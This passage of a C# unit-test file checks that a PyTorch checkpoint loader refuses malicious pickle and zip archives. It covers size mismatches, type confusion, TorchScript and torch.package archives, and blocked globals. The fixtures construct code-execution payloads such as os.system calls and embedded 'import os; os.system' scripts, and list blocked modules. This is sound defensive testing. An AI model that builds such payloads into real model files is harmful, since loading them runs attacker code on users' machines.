        Assert.Equal(bytes, Assert.IsType<TorchTensor>(Assert.IsType<PyDict>(legacy.Root)["weight"]).ToByteArray());
    }

    private static byte[] LegacyStateDict(long declaredNumel, long headerCount, byte[] bytes, long[]? size = null)
    {
        var obj = new HostilePickle().Proto(2).EmptyDict().Str("weight")
            .Tensor(p => p.LegacyStoragePid("0", declaredNumel), 0, size ?? [Math.Min(declaredNumel, 4)], [1]).SetItem().Stop().ToArray();
        return HostileLegacy.Stream(HostileLegacy.Magic(), HostileLegacy.ProtocolVersion(), HostileLegacy.SysInfo(), obj,
            HostileLegacy.Keys("0"), HostileLegacy.StorageBlob(headerCount, bytes));
    }

    /// <summary>Storage size mismatch (CVE-2026-24747 part 2): declared numel disagrees with the data/&lt;key&gt; record.</summary>
    [Theory]
    [InlineData(1L << 40)]
    [InlineData(1L << 62)]
    [InlineData(long.MaxValue)]
    [InlineData(2L)]
    [InlineData(5L)]
    [InlineData(0L)]
    public void P41_StorageNumelDisagreesWithRecordRefused(long numel)
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2).EmptyDict().Str("weight")
            .Tensor(p => p.ZipStoragePid("0", numel), 0, [Math.Min(numel, 4)], [1]).SetItem().Stop().ToArray();
        var file = ZipWith(pkl, null, ("0", new byte[16]));
        foreach (var weightsOnly in new[] { true, false })
            Refused(box.Load(file, weightsOnly), StorageSizeMismatch);
    }

    [Theory]
    [InlineData(1L << 40, 4L, StorageSizeMismatch)]
    [InlineData(4L, 1L << 40, StorageSizeMismatch)]
    [InlineData(4L, 5L, StorageSizeMismatch)]
    [InlineData(1L << 62, 1L << 62, StorageSizeMismatch)]
    public void P41_LegacyStorageNumelDisagreesRefused(long declaredNumel, long headerCount, TorchLoadErrorReason reason)
    {
        using var box = new HostileSandbox();
        var file = LegacyStateDict(declaredNumel, headerCount, new byte[16]);
        foreach (var weightsOnly in new[] { true, false })
            Refused(box.Load(file, weightsOnly, "legacy.pt"), reason);
    }

    /// <summary>A tensor view that reaches outside its (correctly sized) storage.</summary>
    [Theory]
    [InlineData(0L, new long[] { 10 }, new long[] { 1 })]
    [InlineData(3L, new long[] { 2 }, new long[] { 1 })]
    [InlineData(0L, new long[] { 2, 2 }, new long[] { 1L << 62, 1 })]
    [InlineData(-1L, new long[] { 1 }, new long[] { 1 })]
    [InlineData(0L, new long[] { -3 }, new long[] { 1 })]
    [InlineData(0L, new long[] { 2 }, new long[] { -1 })]
    [InlineData(long.MaxValue, new long[] { 1 }, new long[] { 1 })]
    public void P41_TensorViewOutsideStorageRefused(long offset, long[] size, long[] stride)
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2).EmptyDict().Str("weight")
            .Tensor(p => p.ZipStoragePid("0", 4), offset, size, stride).SetItem().Stop().ToArray();
        var file = ZipWith(pkl, null, ("0", new byte[16]));
        foreach (var weightsOnly in new[] { true, false })
            Refused(box.Load(file, weightsOnly), InvalidTensorGeometry);
    }

    /// <summary>SETITEM / SETITEMS applied to a non-dict (CVE-2026-24747 part 1).</summary>
    [Theory]
    [InlineData("list"), InlineData("tuple"), InlineData("tensor"), InlineData("storage_class"), InlineData("string"),
     InlineData("set"), InlineData("int"), InlineData("none"), InlineData("dtype"), InlineData("bytes")]
    public void P41_SetItemOnNonDictRefused(string target)
    {
        using var box = new HostileSandbox();
        foreach (var setItems in new[] { false, true })
        {
            var p = new HostilePickle().Proto(2);
            PushTarget(p, target);
            if (setItems) p.Mark().Str("k").Int(1).Str("__class__").Global("torch", "FloatStorage").SetItems();
            else p.Str("__setitem__").Int(1).SetItem();
            var file = ZipWith(p.Stop().ToArray(), null, ("0", new byte[16]));
            Refused(box.Load(file, true), MalformedPickle);
            Refused(box.Load(file, false), MalformedPickle);
        }
    }

    /// <summary>SETITEM on a user-allowlisted (inert) class is refused in safe mode, kept as inert data in permissive mode.</summary>
    [Fact]
    public void P41_SetItemOnAllowlistedObjectRefusedInSafeMode()
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2).Global("mylib", "Config").EmptyTuple().NewObj()
            .Str("cmd").Str(box.Touch).SetItem().Stop().ToArray();
        var file = Wrap(Container.Zip, pkl);
        Refused(box.Load(file, true), UnsafeGlobal, "mylib.Config");
        Refused(box.Load(file, true, tweak: o => o with { SafeGlobals = ["mylib.Config"] }), MalformedPickle);
        var obj = InertRoot(box.Load(file, false), "mylib.Config");
        Assert.Equal(box.Touch, obj.DictItems!["cmd"]);
    }

    /// <summary>APPEND / APPENDS applied to a non-list.</summary>
    [Theory]
    [InlineData("dict"), InlineData("tuple"), InlineData("tensor"), InlineData("storage_class"), InlineData("string"),
     InlineData("set"), InlineData("int"), InlineData("none"), InlineData("frozenset")]
    public void P41_AppendOnNonListRefused(string target)
    {
        using var box = new HostileSandbox();
        foreach (var appends in new[] { false, true })
        {
            var p = new HostilePickle().Proto(2);
            PushTarget(p, target);
            if (appends) p.Mark().Str("a").Global("torch", "FloatStorage").Appends();
            else p.Str(box.Touch).AppendOp();
            var file = ZipWith(p.Stop().ToArray(), null, ("0", new byte[16]));
            Refused(box.Load(file, true), MalformedPickle);
            Refused(box.Load(file, false), MalformedPickle);
        }
    }

    private static void PushTarget(HostilePickle p, string target)
    {
        switch (target)
        {
            case "list": p.EmptyList(); break;
            case "dict": p.EmptyDict(); break;
            case "tuple": p.Int(1).Tuple1(); break;
            case "tensor": p.Tensor(q => q.ZipStoragePid("0", 4), 0, [4], [1]); break;
            case "storage_class": p.Global("torch", "FloatStorage"); break;
            case "string": p.Str("abc"); break;
            case "set": p.EmptySet(); break;
            case "frozenset": p.Mark().Int(1).FrozenSet(); break;
            case "int": p.Int(7); break;
            case "none": p.None(); break;
            case "dtype": p.Global("torch", "float32"); break;
            default: p.Bytes([1, 2, 3]); break;
        }
    }

    /// <summary>TorchScript archive (constants.pkl) given to torch.load (CVE-2025-32434) and torch.package archives: recognised, refused, never run.</summary>
    [Theory]
    [InlineData("torchscript")]
    [InlineData("torchscript_no_data_pkl")]
    [InlineData("torch_package")]
    public void P42_TorchScriptAndTorchPackageArchivesRefused(string kind)
    {
        using var box = new HostileSandbox();
        var z = new HostileZip();
        switch (kind)
        {
            case "torchscript":
                z.Add("model/data.pkl", HostilePickle.Benign());
                z.Add("model/code/__torch__/evil.py", Encoding.UTF8.GetBytes($"def forward(self):\n    import os\n    os.system('{box.Touch}')\n"), 8);
                z.Add("model/constants.pkl", OsSystem(box));
                z.Add("model/version", "3\n");
                break;
            case "torchscript_no_data_pkl":
                z.Add("model/constants.pkl", OsSystem(box));
                z.Add("model/code/__torch__.py", Encoding.UTF8.GetBytes("import os\n"), 8);
                z.Add("model/version", "3\n");
                break;
            default:
                z.Add("pkg/.data/extern_modules", "os\n");
                z.Add("pkg/evil/__init__.py", $"import os\nos.system('{box.Touch}')\n");
                z.Add("pkg/evil/model.pkl", OsSystem(box));
                z.Add("pkg/.data/version", "3\n");
                break;
        }
        var file = z.ToArray();
        foreach (var weightsOnly in new[] { true, false })
        {
            var o = box.Load(file, weightsOnly);
            Refused(o, UnsupportedFormat);
        }
    }

    /// <summary>The user cannot allowlist blocked modules (os, sys, posix, nt), in either mode.</summary>
    [Theory]
    [InlineData("os.system"), InlineData("posix.system"), InlineData("nt.system"), InlineData("sys.exit"), InlineData("os.execv")]
    public void P43_UserCannotAllowlistBlockedModules(string global)
    {
        using var box = new HostileSandbox();
        var dot = global.LastIndexOf('.');
        var file = Wrap(Container.Zip, HostilePickle.Call(global[..dot], global[(dot + 1)..], box.Touch));
        foreach (var weightsOnly in new[] { true, false })
            Refused(box.Load(file, weightsOnly, tweak: o => o with { SafeGlobals = [global] }), UnsafeGlobal, global);
        var e = Assert.Throws<TorchLoadException>(() => SafeGlobalRegistry.Validate(global));
        Assert.Equal(UnsafeGlobal, e.Reason);
    }

    /// <summary>
    /// Allowlisting eval / pickle.loads / subprocess.Popen is accepted (as torch does), but TorchLoad still
    /// executes nothing: the "call" is an inert record.
    /// </summary>
    [Theory]
    [InlineData("builtins", "eval", CallStyle.Global)]
    [InlineData("builtins", "exec", CallStyle.StackGlobal)]
    [InlineData("pickle", "loads", CallStyle.Global)]
    [InlineData("subprocess", "Popen", CallStyle.NewObj)]
    [InlineData("subprocess", "run", CallStyle.NewObjEx)]
    [InlineData("os.path", "exists", CallStyle.Inst)]
    public void P43_AllowlistedDangerousGlobalStaysInert(string module, string name, CallStyle style)
    {
        using var box = new HostileSandbox();
        var payload = name == "loads" ? OsSystem(box).Select(b => (char)b).Aggregate(new StringBuilder(), (sb, c) => sb.Append(c)).ToString() : box.Touch;
        var file = Wrap(Container.Zip, HostilePickle.CallPickle(style, module, name, payload, box.PyOpen));
        var full = $"{module}.{name}";
        Refused(box.Load(file, true), UnsafeGlobal, full);
        var allowed = box.Load(file, true, tweak: o => o with { SafeGlobals = [full] });
        var obj = InertRoot(allowed, full);
        Assert.Equal(payload, obj.Args[0]);
        Assert.DoesNotContain("os.system", allowed.Checkpoint!.Globals);
    }

    /// <summary>Non-pickle garbage: PNG renamed .pt, 3-byte file, empty file, random bytes, text, a lone STOP.</summary>
    [Theory]
    [InlineData("png"), InlineData("three_bytes"), InlineData("empty"), InlineData("random"), InlineData("text"),
     InlineData("lone_stop"), InlineData("proto_only"), InlineData("lfs_pointer"), InlineData("html"), InlineData("pk_not_zip"), InlineData("pytorch1")]
    public void P44_NonPickleGarbageRefused(string kind)
    {
        using var box = new HostileSandbox();
        byte[] bytes = kind switch
        {
            "png" => [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0],
            "three_bytes" => "abc"u8.ToArray(),
            "empty" => [],
            "random" => RandomBytes(4096),
            "text" => "This is not a checkpoint.\nos.system('touch pwned')\n"u8.ToArray(),
            "lone_stop" => "."u8.ToArray(),
            "proto_only" => [0x80, 0x02],
            "lfs_pointer" => "version https://git-lfs.github.com/spec/v1\noid sha256:0000\nsize 123\n"u8.ToArray(),
            "html" => "<!DOCTYPE html><html><body>404</body></html>"u8.ToArray(),
            "pk_not_zip" => "PK\x05\x06garbage"u8.ToArray(),
            _ => "PYTORCH1garbage"u8.ToArray(),
        };
        foreach (var weightsOnly in new[] { true, false })
        {
            var o = box.Load(bytes, weightsOnly, "model.pt");
            switch (kind)
            {
                case "pk_not_zip": Refused(o, InvalidArchive); break;
                case "pytorch1": Refused(o, UnsupportedFormat); break;
                default: Refused(o, NotACheckpoint); break;
            }
        }
    }

    private static byte[] RandomBytes(int n)
    {
        var b = new byte[n];
        new Random(44).NextBytes(b);
        b[0] = 0xB7; // not 'P', not a pickle opcode: a fixed start keeps the expectation stable
        return b;
    }

    /// <summary>GLOBAL whose module/name is not valid UTF-8.</summary>
    [Theory]
    [InlineData(new byte[] { 0xFF, 0xFE }, new byte[] { (byte)'s', (byte)'y', (byte)'s', (byte)'t', (byte)'e', (byte)'m' })]
    [InlineData(new byte[] { (byte)'o', (byte)'s' }, new byte[] { 0xC0, 0xAF })]
    [InlineData(new byte[] { (byte)'o', 0xE0, 0x80 }, new byte[] { (byte)'x' })]
    public void P44_GlobalWithInvalidUtf8Refused(byte[] module, byte[] name)
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2).GlobalRaw(module, name).Str(box.Touch).Tuple1().Reduce().Stop().ToArray();
        foreach (var weightsOnly in new[] { true, false })
        {
            Refused(box.Load(Wrap(Container.Zip, pkl), weightsOnly), MalformedPickle);
            Refused(box.Load(pkl, weightsOnly, "raw.pkl"), NotACheckpoint);
        }
    }
}
